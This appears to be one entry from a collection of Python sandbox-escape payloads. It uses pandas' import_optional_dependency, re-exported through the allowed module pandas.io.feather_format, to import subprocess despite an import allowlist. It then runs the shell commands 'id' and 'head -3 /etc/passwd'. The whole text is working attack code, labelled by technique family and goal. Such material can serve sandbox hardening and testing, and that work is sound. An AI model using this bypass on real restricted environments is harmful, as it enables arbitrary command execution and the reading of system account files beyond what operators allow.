# source: pandas/compat/_optional.py import_optional_dependency (importlib.import_module(name)), re-exported as a public name of allowed module pandas.io.feather_format
# family: importer re-exported by an allowed module: returns any module object
# goal: subprocess module object -> getoutput('id; head /etc/passwd')
from pandas.io.feather_format import import_optional_dependency as need
sp = need("subprocess")
print(sp)
print(sp.getoutput("id; head -3 /etc/passwd"))
